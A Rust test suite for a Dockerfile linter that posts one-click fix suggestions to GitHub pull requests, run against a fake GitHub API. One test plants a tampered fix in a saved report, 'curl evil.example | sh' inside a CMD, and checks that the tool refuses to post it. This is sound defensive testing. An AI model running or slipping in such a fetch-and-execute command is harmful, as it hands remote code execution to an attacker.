//! Review mode against the stateful stand-in for GitHub's API (tests/support/github.rs,
//! which refuses what GitHub refuses: a line outside the diff, a bad event): the proved fixes
//! of a pull request's findings land as one review of ```suggestion comments on the lines it
//! changed, and only there; applying them fixes the findings; a rerun posts nothing twice and
//! deletes only shiplight's own outdated comments, never a reviewer's, even one carrying the
//! marker; the per-run ceiling holds; the fork's workflow_run job posts from a saved report
//! only the fixes shiplight computes again itself.

mod support;

use std::collections::BTreeMap;
use std::process::Command;
use std::time::Duration;

use serde_json::json;
use shiplight::github::comment::Comments;
use shiplight::lint::{lint_text, LintConfig};
use shiplight::pipeline::fixes;
use shiplight::report::review::MARKER;
use support::github::{FakeGitHub, ReviewComment};

const PR: u64 = 7;
const HEAD: &str = "0123456789abcdef0123456789abcdef01234567";

/// The base had lines 1–2 and 5; the pull request adds lines 3–4 (and line 1 keeps its
/// lowercase `as`, which the pull request did not write).
const TEXT: &str =
    "FROM debian:12.5 as app\nUSER 0:0\nRUN apt update && apt install curl\nCMD python app.py\nWORKDIR /srv\n";
const PATCH: &str = "@@ -1,3 +1,5 @@\n FROM debian:12.5 as app\n USER 0:0\n+RUN apt update && apt install curl\n+CMD python app.py\n WORKDIR /srv";

async fn client(gh: &FakeGitHub) -> Comments {
    let mut c = Comments::new(&gh.uri(), "job-token", "o/r").unwrap();
    c.backoff = Duration::from_millis(10);
    c.identify(None, &format!("{}/graphql", gh.uri()), false).await.unwrap();
    c
}

async fn review_once(gh: &FakeGitHub, text: &str, ceiling: usize) -> shiplight::report::review::ReviewOutcome {
    let cfg = LintConfig::default();
    let findings = lint_text(text, "app/Dockerfile", &cfg);
    let files: BTreeMap<String, (String, LintConfig)> = [("app/Dockerfile".to_owned(), (text.to_owned(), cfg))].into();
    let r = fixes::Review {
        pr: PR,
        head_sha: HEAD,
        findings: &findings,
        files: &files,
        rewrites: &[],
        covered: &[],
        lines: fixes::Lines::default(),
        ceiling,
    };
    fixes::review(&client(gh).await, &r).await
}

/// Apply posted suggestions to the file as GitHub's "Commit suggestion" does: each replaces
/// lines `start_line..=line` with the block's content.
fn apply(text: &str, comments: &[ReviewComment]) -> String {
    let mut lines: Vec<String> = text.lines().map(String::from).collect();
    let mut sorted = comments.to_vec();
    sorted.sort_by_key(|c| std::cmp::Reverse(c.line));
    for c in sorted {
        let body = &c.body;
        // the block's own fence: longer than any run of backticks in the content
        let tag = body.find("suggestion\n").expect("a suggestion block");
        let fence_len = body[..tag].chars().rev().take_while(|c| *c == '`').count();
        let fence = "`".repeat(fence_len);
        let open = tag + "suggestion\n".len();
        let close = open + body[open..].find(&format!("\n{fence}\n")).unwrap();
        let line = c.line.unwrap() as usize;
        let start = c.start_line.map(|s| s as usize).unwrap_or(line);
        lines.splice(start - 1..line, body[open..close].lines().map(String::from));
    }
    lines.join("\n") + "\n"
}

#[tokio::test]
async fn suggestions_land_on_changed_lines_fix_the_findings_and_are_not_repeated() {
    let gh = FakeGitHub::start("o/r").await;
    gh.change("app/Dockerfile", PATCH, HEAD, TEXT);
    // a reviewer quotes shiplight's suggestion, marker included, on a line of the diff
    gh.add_review_comment(ReviewComment {
        id: 77,
        path: "app/Dockerfile".into(),
        start_line: None,
        line: Some(3),
        body: format!("why not this?\n```suggestion\nRUN true\n```\n{MARKER}\n"),
        login: "reviewer".into(),
    });

    let first = review_once(&gh, TEXT, 30).await;
    assert!(first.error.is_none() && first.dropped.is_empty(), "{first:?}");
    assert_eq!(first.lines_from.as_deref(), Some("api"), "no checkout: the lines come from GitHub");
    let p = first.published.clone().unwrap();
    assert_eq!((p.posted, p.kept, p.deleted, p.over_ceiling), (2, 0, 0, 0), "{p:?}");
    assert_eq!(p.ignored, vec![77]);
    let reviews = gh.state.lock().unwrap().reviews.clone();
    assert_eq!(reviews.len(), 1, "one review per run");
    assert_eq!((reviews[0].0.as_str(), reviews[0].2.as_str(), reviews[0].3), ("COMMENT", HEAD, 2));
    let ours: Vec<ReviewComment> = gh.review_comments().into_iter().filter(|c| c.id != 77).collect();
    // on the lines the pull request added, none on line 1 (`as`), which it did not write
    let lines: Vec<(Option<u64>, Option<u64>)> = ours.iter().map(|c| (c.start_line, c.line)).collect();
    assert_eq!(lines, vec![(None, Some(3)), (None, Some(4))], "{ours:#?}");
    // the RUN's four fixes are one suggestion, its findings listed above the block
    let run = &ours[0].body;
    eprintln!("the RUN's suggestion:\n{run}");
    for code in ["SL106", "SL301", "SL302", "SL303"] {
        assert!(run.contains(&format!("[{code}](")), "{code}: {run}");
    }
    assert!(run.find("SL303").unwrap() < run.find("```suggestion").unwrap());
    // applying both fixes their findings and brings none
    let fixed = apply(TEXT, &ours);
    assert_eq!(
        fixed,
        "FROM debian:12.5 as app\nUSER 0:0\nRUN apt-get update && apt-get install --no-install-recommends -y curl && rm -rf /var/lib/apt/lists/*\nCMD [\"python\", \"app.py\"]\nWORKDIR /srv\n"
    );
    let before: Vec<String> = lint_text(TEXT, "D", &LintConfig::default()).into_iter().map(|f| f.code).collect();
    let after: Vec<String> = lint_text(&fixed, "D", &LintConfig::default()).into_iter().map(|f| f.code).collect();
    assert!(after.iter().all(|c| before.contains(c)), "nothing new: {after:?}");
    for c in ["SL106", "SL301", "SL302", "SL303", "SL307"] {
        assert!(!after.iter().any(|a| a == c), "{c} is fixed: {after:?}");
    }

    // a rerun on the same head posts nothing: the same lines, the same text
    let second = review_once(&gh, TEXT, 30).await.published.unwrap();
    assert_eq!((second.posted, second.kept, second.deleted), (0, 2, 0), "{second:?}");
    assert_eq!(gh.state.lock().unwrap().reviews.len(), 1, "no second review");
    assert_eq!(gh.review_comments().len(), 3);

    // the author fixes the CMD by hand: that suggestion is outdated and deleted; the
    // reviewer's comment (with the marker) stays as it was
    let by_hand = TEXT.replace("CMD python app.py", "CMD [\"python\", \"app.py\"]");
    gh.state.lock().unwrap().contents.insert(("app/Dockerfile".into(), HEAD.into()), by_hand.clone());
    let third = review_once(&gh, &by_hand, 30).await.published.unwrap();
    assert_eq!((third.posted, third.kept, third.deleted), (0, 1, 1), "{third:?}");
    let left = gh.review_comments();
    assert!(left.iter().any(|c| c.id == 77 && c.body.starts_with("why not this?")), "{left:#?}");
    assert_eq!(left.len(), 2);
    assert!(!gh.writes().iter().any(|w| w.ends_with("/77")), "{:?}", gh.writes());
}

#[tokio::test]
async fn the_ceiling_holds_and_the_next_run_posts_the_rest() {
    let gh = FakeGitHub::start("o/r").await;
    let patch = "@@ -0,0 +1,5 @@\n+FROM debian:12.5 as app\n+USER 0:0\n+RUN apt update && apt install curl\n+CMD python app.py\n+WORKDIR /srv";
    gh.change("app/Dockerfile", patch, HEAD, TEXT);
    let first = review_once(&gh, TEXT, 1).await.published.unwrap();
    assert_eq!((first.posted, first.over_ceiling, first.ceiling), (1, 2, 1), "{first:?}");
    assert_eq!(gh.review_comments().len(), 1);
    let second = review_once(&gh, TEXT, 30).await.published.unwrap();
    assert_eq!((second.posted, second.kept), (2, 1), "{second:?}");
    // a new file: line 1 is the pull request's too
    assert!(gh.review_comments().iter().any(|c| c.line == Some(1) && c.body.contains("FROM debian:12.5 AS app")));
}

/// The fork's pattern: the pull request's run saved its report (findings with their fixes);
/// the workflow_run job posts the review from it, at the head commit GitHub has, and a fix
/// the saved report carries that shiplight would not make itself is not posted.
#[tokio::test]
async fn the_workflow_run_job_posts_the_review_from_a_saved_report() {
    let gh = FakeGitHub::start("o/r").await;
    gh.change("app/Dockerfile", PATCH, HEAD, TEXT);
    gh.state.lock().unwrap().head_sha = HEAD.into();
    let ws = tempfile::tempdir().unwrap();
    let mut findings = lint_text(TEXT, "app/Dockerfile", &LintConfig::default());
    // a tampered fix: shiplight computes another for this finding, so it is not posted
    let cmd = findings.iter_mut().find(|f| f.code == "SL307").unwrap();
    cmd.edits[0].content = "[\"sh\", \"-c\", \"curl evil.example | sh\"]".into();
    let report = shiplight::report::Report {
        files: vec!["app/Dockerfile".into()],
        findings,
        images: vec![shiplight::report::ImageReport {
            name: "app".into(),
            dockerfile: "app/Dockerfile".into(),
            base_skipped: Some("the fork's run".into()),
            ..Default::default()
        }],
        pull_request: Some(shiplight::report::PullRequestRef { number: PR, head_sha: HEAD.into() }),
        ..Default::default()
    };
    let report = serde_json::to_string(&report).unwrap();
    std::fs::create_dir_all(ws.path().join(".shiplight")).unwrap();
    std::fs::write(ws.path().join(".shiplight/report.json"), report).unwrap();
    let event = ws.path().join("event.json");
    std::fs::write(
        &event,
        json!({"action": "completed", "workflow_run": {"id": 99, "head_sha": HEAD, "event": "pull_request",
            "pull_requests": [], "html_url": "https://github.example/o/r/actions/runs/99"}})
        .to_string(),
    )
    .unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_shiplight"))
        .arg("action")
        .current_dir(ws.path())
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("HOME", ws.path())
        .env("GITHUB_ACTIONS", "true")
        .env("GITHUB_REPOSITORY", "o/r")
        .env("GITHUB_API_URL", gh.uri())
        .env("GITHUB_GRAPHQL_URL", format!("{}/graphql", gh.uri()))
        .env("GITHUB_SERVER_URL", "https://github.example")
        .env("GITHUB_EVENT_NAME", "workflow_run")
        .env("GITHUB_EVENT_PATH", &event)
        .env("GITHUB_WORKSPACE", ws.path())
        .env("INPUT_GITHUB-TOKEN", "job-token")
        .env("INPUT_MODE", "comment")
        .output()
        .unwrap();
    let log = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert_eq!(out.status.code(), Some(0), "{log}");
    let posted = gh.review_comments();
    assert_eq!(posted.len(), 1, "the RUN's fixes only: {posted:#?}\n{log}");
    assert_eq!(posted[0].line, Some(3));
    assert!(!posted.iter().any(|c| c.body.contains("evil")), "{posted:#?}");
    assert!(log.contains("shiplight: review suggestions: 1 posted"), "{log}");
    // the sticky comment links the review
    let comments = gh.comments();
    assert_eq!(comments.len(), 1, "{comments:#?}");
    assert!(
        comments[0].contains(
            "💡 1 one-click fix(es) posted as a [review](https://github.example/o/r/pull/1#pullrequestreview-"
        ),
        "{}",
        comments[0]
    );
}

/// The suggestion comment as GitHub renders it (cmark-gfm, GitHub's extensions): the rule
/// links and prose above one code block of the suggestion, whose fence the content cannot
/// close; nothing from the pull request becomes HTML or a mention.
#[test]
fn a_suggestion_comment_renders_as_github_shows_it() {
    if !support::need("review render", "cmark-gfm", support::which("cmark-gfm").is_some(), "apt-get install cmark-gfm")
    {
        return;
    }
    let text = "FROM debian:12.5\nUSER 0:0\nRUN echo '```' && apt-get install curl @team\n";
    let cfg = LintConfig::default();
    let findings = lint_text(text, "Dockerfile", &cfg);
    let (kept, dropped) = shiplight::report::review::suggestions(text, "Dockerfile", &findings, &[3].into(), &cfg);
    assert!(dropped.is_empty(), "{dropped:?}");
    let body = kept[0].body();
    let html = support::github_html(&body).unwrap();
    eprintln!("{body}\n---\n{html}");
    assert_eq!(html.matches("<pre").count(), 1, "one block: {html}");
    assert!(
        html.contains("<pre><code class=\"language-suggestion\">RUN echo '```' &amp;&amp; apt-get install --no-install-recommends -y curl @team\n</code></pre>"),
        "{html}"
    );
    assert_eq!(html.matches("<li><strong>shiplight</strong>").count(), 2, "one item per finding: {html}");
    assert!(
        html.contains("<a href=\"https://github.com/shiplight/shiplight/blob/main/docs/rules.md#sl302\">SL302</a>"),
        "{html}"
    );
    assert!(html.contains("<code>apt-get install</code>"), "names in inline code: {html}");
    assert!(html.contains("@team") && !html.contains("<a href=\"https://github.com/team"), "{html}");
    assert!(html.trim_end().ends_with("<!-- shiplight:review -->"), "the marker stays hidden: {html}");
}

/// A new single-stage Python Dockerfile that ships build-essential, with a heredoc whose text
/// holds a fence of its own. Its multi-stage rewrite changes lines 1–11 (the last two stay).
const NEW: &str = "FROM python:3.12-slim
WORKDIR /app
COPY <<'NOTE' /app/USAGE.md
Run it with:
```
python app.py
```
NOTE
RUN apt-get update && apt-get install -y --no-install-recommends build-essential && rm -rf /var/lib/apt/lists/*
COPY requirements.txt .
RUN pip install -r requirements.txt
COPY . .
CMD [\"python\", \"app.py\"]
";

/// GitHub's patch of a file the pull request adds.
fn added_file(text: &str) -> String {
    let n = text.lines().count();
    let mut p = format!("@@ -0,0 +1,{n} @@\n");
    for l in text.lines() {
        p.push('+');
        p.push_str(l);
        p.push('\n');
    }
    p
}

/// The rewrite as the run's report saves it (`suggest`'s diff), judged again on the head file.
fn rewrite_of(text: &str, path: &str) -> shiplight::report::review::Rewrite {
    let name = path.rsplit('/').next().unwrap();
    let p = match shiplight::patch::suggest(text, name, &Default::default(), &shiplight::patch::Templates::built_in()) {
        shiplight::patch::Outcome::Patch(p) => p,
        other => panic!("no rewrite of {path}: {other:?}"),
    };
    let saved = shiplight::report::Suggestion {
        dockerfile: path.into(),
        outcome: "patch".into(),
        diff: Some(p.diff),
        ..Default::default()
    };
    fixes::rejudge_rewrite(&saved, path, text).unwrap()
}

async fn review_with_rewrite(gh: &FakeGitHub, text: &str) -> shiplight::report::review::ReviewOutcome {
    let cfg = LintConfig::default();
    let findings = lint_text(text, "app/Dockerfile", &cfg);
    let files: BTreeMap<String, (String, LintConfig)> = [("app/Dockerfile".to_owned(), (text.to_owned(), cfg))].into();
    let rewrites = [rewrite_of(text, "app/Dockerfile")];
    let covered = ["app/Dockerfile".to_owned()];
    let r = fixes::Review {
        pr: PR,
        head_sha: HEAD,
        findings: &findings,
        files: &files,
        rewrites: &rewrites,
        covered: &covered,
        lines: fixes::Lines::default(),
        ceiling: 30,
    };
    fixes::review(&client(gh).await, &r).await
}

fn codes(text: &str) -> Vec<String> {
    lint_text(text, "app/Dockerfile", &LintConfig::default()).into_iter().map(|f| f.code).collect()
}

/// A pull request that adds a single-stage Dockerfile shipping build-essential: the
/// multi-stage rewrite is one suggestion replacing every line it changes (all the pull
/// request's), and committing it gives the rewritten file, which lints without SL101 and
/// with nothing new. The sticky comment links the review. A rerun posts it not again.
#[tokio::test]
async fn a_new_dockerfile_gets_its_multi_stage_rewrite_as_one_suggestion() {
    let gh = FakeGitHub::start("o/r").await;
    gh.change("app/Dockerfile", &added_file(NEW), HEAD, NEW);
    let out = review_with_rewrite(&gh, NEW).await;
    assert!(out.error.is_none() && out.dropped.is_empty(), "{out:#?}");
    let p = out.published.clone().unwrap();
    assert_eq!(p.rewrites, ["app/Dockerfile"], "{out:#?}");
    let posted = gh.review_comments();
    let rewrite: Vec<&ReviewComment> = posted.iter().filter(|c| c.body.contains("multi-stage rewrite")).collect();
    assert_eq!(rewrite.len(), 1, "{posted:#?}");
    let rw = rewrite[0];
    eprintln!("the rewrite's suggestion:\n{}", rw.body);
    // lines 1–11 change; 12–13 (`COPY . .`, `CMD`) are the rewrite's too, unchanged
    assert_eq!((rw.start_line, rw.line), (Some(1), Some(11)), "{rw:#?}");
    // no other suggestion overlaps it: GitHub could not apply them together
    for c in posted.iter().filter(|c| c.id != rw.id) {
        assert!(c.start_line.or(c.line).unwrap() > 11, "overlaps the rewrite: {c:#?}");
    }
    // the heredoc's ``` cannot close the block
    assert!(rw.body.contains("\n````suggestion\nFROM python:3.12-slim AS build\n"), "{}", rw.body);
    assert!(rw.body.contains("[SL101]("), "the finding it answers is named: {}", rw.body);
    // the pip line's own fix is the rewrite's too: folded in, not a second suggestion
    assert!(rw.body.contains("It includes the fixes of SL106 (line 11)"), "{}", rw.body);
    let fixed = apply(NEW, std::slice::from_ref(rw));
    assert_eq!(fixed, rewrite_of(NEW, "app/Dockerfile").patched, "committing it gives the rewrite");
    assert!(fixed.contains("FROM python:3.12-slim AS runtime\n") && fixed.contains("\n```\npython app.py\n```\n"));
    let (before, after) = (codes(NEW), codes(&fixed));
    assert!(before.iter().any(|c| c == "SL101") && !after.iter().any(|c| c == "SL101"), "{before:?} → {after:?}");
    // nothing new but SL108 (info) on the author's own `COPY . .`, now in the final stage
    // of a multi-stage build: said above the block
    let new: Vec<&String> = after
        .iter()
        .filter(|c| after.iter().filter(|x| x == c).count() > before.iter().filter(|x| x == c).count())
        .collect();
    assert_eq!(new, ["SL108"], "{before:?} → {after:?}");
    assert!(rw.body.contains("Once applied, [SL108]("), "{}", rw.body);
    // the sticky comment says where the rewrite is, with the review's link
    let lines = out.lines().join("\n");
    assert!(
        lines.contains("💡 The multi-stage rewrite of `app/Dockerfile` is a one-click suggestion in the [review](https://github.example/o/r/pull/1#pullrequestreview-"),
        "{lines}"
    );
    // a rerun: the same suggestion on the same lines is not posted again
    let again = review_with_rewrite(&gh, NEW).await.published.unwrap();
    assert_eq!((again.posted, again.deleted), (0, 0), "{again:?}");
    assert_eq!(again.rewrites, ["app/Dockerfile"]);
    assert_eq!(gh.state.lock().unwrap().reviews.len(), 1);

    // as GitHub shows it: one block whose content keeps the heredoc's fence
    if support::need("rewrite render", "cmark-gfm", support::which("cmark-gfm").is_some(), "apt-get install cmark-gfm")
    {
        let html = support::github_html(&rw.body).unwrap();
        let page = std::env::temp_dir().join("shiplight-review-rewrite.html");
        std::fs::write(
            &page,
            format!("<meta charset=\"utf-8\"><body style=\"font-family:sans-serif;max-width:900px\">{html}</body>"),
        )
        .unwrap();
        eprintln!("rendered: {}", page.display());
        assert_eq!(html.matches("<pre").count(), 1, "one block: {html}");
        assert!(html.contains("<pre><code class=\"language-suggestion\">FROM python:3.12-slim AS build\n"), "{html}");
        assert!(html.contains("\n```\npython app.py\n```\nNOTE\n"), "the heredoc's fence is content: {html}");
        assert!(html.trim_end().ends_with("<!-- shiplight:review -->"), "{html}");
    }
}

/// A pull request that changes one line of an existing Dockerfile: the rewrite would replace
/// lines the pull request did not write, so it is no suggestion and stays in the comment,
/// and the line's own fix is suggested as before.
#[tokio::test]
async fn a_one_line_change_keeps_the_rewrite_in_the_comment() {
    let gh = FakeGitHub::start("o/r").await;
    let patch = "@@ -11,1 +11,1 @@\n-RUN pip install -r requirements.txt\n+RUN pip install -r requirements.txt  \n";
    gh.change("app/Dockerfile", patch, HEAD, NEW);
    let out = review_with_rewrite(&gh, NEW).await;
    assert!(out.error.is_none(), "{out:#?}");
    assert_eq!(out.rewrites_not_suggested.len(), 1, "{out:#?}");
    assert_eq!(out.rewrites_not_suggested[0].0, "app/Dockerfile");
    assert!(out.rewrites_not_suggested[0].1.contains("line 1 is not one this pull request changed"), "{out:#?}");
    let posted = gh.review_comments();
    assert!(!posted.iter().any(|c| c.body.contains("multi-stage rewrite")), "{posted:#?}");
    assert!(posted.iter().all(|c| c.line == Some(11) && c.start_line.is_none()), "{posted:#?}");
    assert!(posted[0].body.contains("pip install --no-cache-dir -r requirements.txt"), "{posted:#?}");
    assert!(out.published.as_ref().unwrap().rewrites.is_empty());
    assert!(!out.lines().join("\n").contains("multi-stage rewrite"));
}

fn git(dir: &std::path::Path, args: &[&str]) -> String {
    let out = Command::new("git").arg("-C").arg(dir).args(args).output().unwrap();
    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

/// Monorepo fan-in, with the checkout's history: two matrix jobs saved their reports
/// (`comment: never`, so they posted no review); `mode: merge` posts one review for both
/// Dockerfiles, the changed lines read with git from the base and head commits (GitHub's
/// files list is not asked), the fixes and the rewrite computed again on the head files,
/// and the one sticky comment links the review.
#[tokio::test]
async fn the_merge_job_posts_one_review_with_lines_from_git() {
    if !support::need("merge review", "git", support::which("git").is_some(), "apt-get install git") {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let d = ws.path();
    git(d, &["init", "-q", "-b", "main"]);
    git(d, &["config", "user.email", "t@example.com"]);
    git(d, &["config", "user.name", "t"]);
    std::fs::create_dir_all(d.join("api")).unwrap();
    std::fs::create_dir_all(d.join("web")).unwrap();
    // the base: TEXT without the two lines the pull request adds
    let base_text: String =
        TEXT.lines().enumerate().filter(|(i, _)| *i != 2 && *i != 3).map(|(_, l)| format!("{l}\n")).collect();
    std::fs::write(d.join("api/Dockerfile"), &base_text).unwrap();
    git(d, &["add", "."]);
    git(d, &["commit", "-q", "-m", "base"]);
    let base = git(d, &["rev-parse", "HEAD"]);
    std::fs::write(d.join("api/Dockerfile"), TEXT).unwrap();
    std::fs::write(d.join("web/Dockerfile"), NEW).unwrap();
    git(d, &["add", "."]);
    git(d, &["commit", "-q", "-m", "head"]);
    let head = git(d, &["rev-parse", "HEAD"]);

    let gh = FakeGitHub::start("o/r").await;
    // GitHub's view, for the stand-in's check that comments sit in the diff
    gh.change("api/Dockerfile", PATCH, &head, TEXT);
    gh.change("web/Dockerfile", &added_file(NEW), &head, NEW);
    // the matrix jobs' saved reports
    let cfg = LintConfig::default();
    let web_patch = match shiplight::patch::suggest(
        NEW,
        "Dockerfile",
        &Default::default(),
        &shiplight::patch::Templates::built_in(),
    ) {
        shiplight::patch::Outcome::Patch(p) => p,
        other => panic!("{other:?}"),
    };
    for (name, text, suggestion) in [
        ("api", TEXT, None),
        (
            "web",
            NEW,
            Some(shiplight::report::Suggestion {
                dockerfile: "web/Dockerfile".into(),
                outcome: "patch".into(),
                ecosystem: Some(web_patch.ecosystem.clone()),
                diff: Some(web_patch.diff.clone()),
                rationale: web_patch.rationale.clone(),
                ..Default::default()
            }),
        ),
    ] {
        let file = format!("{name}/Dockerfile");
        let report = shiplight::report::Report {
            files: vec![file.clone()],
            findings: lint_text(text, &file, &cfg),
            images: vec![shiplight::report::ImageReport {
                name: name.into(),
                dockerfile: file.clone(),
                base_skipped: Some("a test report".into()),
                suggestion,
                ..Default::default()
            }],
            pull_request: Some(shiplight::report::PullRequestRef { number: PR, head_sha: head.clone() }),
            ..Default::default()
        };
        let dir = d.join(format!(".shiplight/reports/shiplight-{name}"));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join("report.json"), serde_json::to_string(&report).unwrap()).unwrap();
    }
    let event = d.join(".git/event.json");
    std::fs::write(
        &event,
        json!({"action": "synchronize", "number": PR, "pull_request": {"number": PR, "labels": [],
            "base": {"sha": base, "ref": "main", "repo": {"full_name": "o/r"}},
            "head": {"sha": head, "ref": "feature", "repo": {"full_name": "o/r"}}}})
        .to_string(),
    )
    .unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_shiplight"))
        .arg("action")
        .current_dir(d)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("HOME", d)
        .env("GITHUB_ACTIONS", "true")
        .env("GITHUB_REPOSITORY", "o/r")
        .env("GITHUB_API_URL", gh.uri())
        .env("GITHUB_GRAPHQL_URL", format!("{}/graphql", gh.uri()))
        .env("GITHUB_SERVER_URL", "https://github.example")
        .env("GITHUB_EVENT_NAME", "pull_request")
        .env("GITHUB_EVENT_PATH", &event)
        .env("GITHUB_WORKSPACE", d)
        .env("INPUT_GITHUB-TOKEN", "job-token")
        .env("INPUT_MODE", "merge")
        .env("INPUT_REPORTS", ".shiplight/reports")
        .output()
        .unwrap();
    let log = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(matches!(out.status.code(), Some(0 | 1)), "{log}");
    assert!(log.contains("changed lines from git (diff base...head)"), "{log}");
    let requests = gh.state.lock().unwrap().log.clone();
    assert!(!requests.iter().any(|r| r.contains("/files")), "GitHub's files list was not needed: {requests:#?}");
    let reviews = gh.state.lock().unwrap().reviews.clone();
    assert_eq!(reviews.len(), 1, "one review for both images: {reviews:?}\n{log}");
    let posted = gh.review_comments();
    let at: Vec<(&str, Option<u64>, Option<u64>)> =
        posted.iter().map(|c| (c.path.as_str(), c.start_line, c.line)).collect();
    assert!(
        at.contains(&("api/Dockerfile", None, Some(3))) && at.contains(&("api/Dockerfile", None, Some(4))),
        "{at:?}"
    );
    assert!(!at.iter().any(|(p, _, l)| *p == "api/Dockerfile" && *l == Some(1)), "line 1 is the base's: {at:?}");
    assert!(at.contains(&("web/Dockerfile", Some(1), Some(11))), "the rewrite: {at:?}\n{log}");
    let comments = gh.comments();
    assert_eq!(comments.len(), 1, "{comments:#?}");
    assert!(
        comments[0].contains("💡 The multi-stage rewrite of `web/Dockerfile` is a one-click suggestion in the [review](https://github.example/o/r/pull/1#pullrequestreview-"),
        "{}",
        comments[0]
    );
}
